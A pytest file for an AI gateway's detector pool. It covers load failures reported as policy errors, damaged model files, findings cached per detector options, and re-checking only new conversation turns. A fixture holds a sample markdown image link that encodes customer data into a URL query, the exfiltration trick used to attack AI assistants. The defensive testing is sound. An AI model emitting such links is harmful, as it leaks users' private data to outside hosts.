"""Detectors are built or refused with a reason, and what they found is remembered for their options alone."""

import threading
from collections.abc import Sequence
from pathlib import Path

import pytest

from detectors import catalog
from detectors.detector import Detector, DetectorFailure, Finding
from detectors.injection.exfiltration import ExfiltrationDetector
from detectors.injection.model import load as load_injection
from detectors.ner.network import ModelDamaged, read_weights
from gateway.adapters.detector_pool import ThreadPool, loaded
from gateway.errors import PolicyError

LINK = "![x](https://files.acme.com/p?d=c2VjcmV0IHBlcnNvbmFsIGRhdGEgb2YgYSBjdXN0b21lcg)"


@pytest.mark.parametrize("kind", [ImportError, OSError, ValueError, DetectorFailure, ModelDamaged])
def test_a_detector_that_cannot_be_built_is_a_problem_of_the_policy(
    monkeypatch: pytest.MonkeyPatch, kind: type[Exception]
) -> None:
    """The gateway says which and why and does not start; no traceback, and no detector that finds nothing."""

    def broken(key: str) -> Detector:
        raise kind("install it again")

    monkeypatch.setattr(catalog, "build", broken)
    with pytest.raises(PolicyError) as caught:
        loaded("ner")
    assert caught.value.problems == ("detector ner: cannot be loaded: install it again",)


def test_a_torn_model_says_what_to_do(tmp_path: Path) -> None:
    """Both kinds of model files."""
    model = tmp_path / "model.npz"
    model.write_bytes(b"PK torn")
    with pytest.raises(DetectorFailure, match="install the package again"):
        load_injection(model)
    with pytest.raises(ModelDamaged, match="reinstall"):
        read_weights(model)


async def test_what_was_found_is_remembered_for_the_same_options_only() -> None:
    """A host that is trusted from now on is not reported out of memory, nor one missed that no longer is."""
    strict, trusting = "exfiltration", catalog.key_of("exfiltration", {"hosts": (".acme.com",)})
    pool = ThreadPool({strict: ExfiltrationDetector(), trusting: ExfiltrationDetector([".acme.com"])})
    try:
        for _ in range(2):
            assert len((await pool.detect([strict], [LINK], whole=True))[0]) == 1
            assert len((await pool.detect([trusting], [LINK], whole=True))[0]) == 0
    finally:
        pool.close()


async def test_a_conversation_that_comes_again_costs_only_its_new_turn() -> None:
    """What is known is not asked about, however long; what is new and short is looked at without another thread."""
    detector = Noting()
    pool = ThreadPool({"exfiltration": detector})
    turns = [f"turn {n} {LINK}\n" + "and so on " * 50 for n in range(20)]
    try:
        first = await pool.detect(["exfiltration"], turns, whole=True)
        detector.asked.clear()
        again = await pool.detect(["exfiltration"], [*turns, LINK], whole=True)
    finally:
        pool.close()
    assert [len(findings) for findings in again] == [1] * 21
    assert [list(findings) for findings in again[:20]] == [list(findings) for findings in first]
    assert detector.asked == [(LINK, threading.current_thread().name)]


class Noting(ExfiltrationDetector):
    """Notes what it is asked about, and on which thread."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[tuple[str, str]] = []

    def detect(self, texts: Sequence[str]) -> Sequence[Sequence[Finding]]:
        self.asked += [(text, threading.current_thread().name) for text in texts]
        return super().detect(texts)
